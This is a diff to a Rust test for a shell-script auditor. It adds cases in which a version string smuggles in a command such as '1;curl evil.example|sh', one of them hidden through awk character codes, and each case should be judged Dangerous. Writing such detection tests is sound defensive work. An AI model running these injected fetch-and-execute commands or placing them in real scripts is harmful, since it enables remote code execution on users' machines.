@@ -64,6 +64,9 @@ fn a_version_printed_through_any_printer_is_judged() {
         r#"  printf '%s' "1;curl evil.example|sh" | cat"#,
         r#"  echo "1;curl evil.example|sh" | cut -d: -f1 | sort"#,
         r#"  echo "x:1;curl" | cut -d: -f2"#,
+        r#"  sed "s/^/1;curl evil.example|sh/" <<< """#,
+        r#"  printf '%s' "1'" | tee /dev/null"#,
+        r#"  printf '%s' "$(awk 'BEGIN{printf "1%ccurl%csh", 59, 124}')""#,
     ] {
         let r = audit(&versioned(body));
         assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
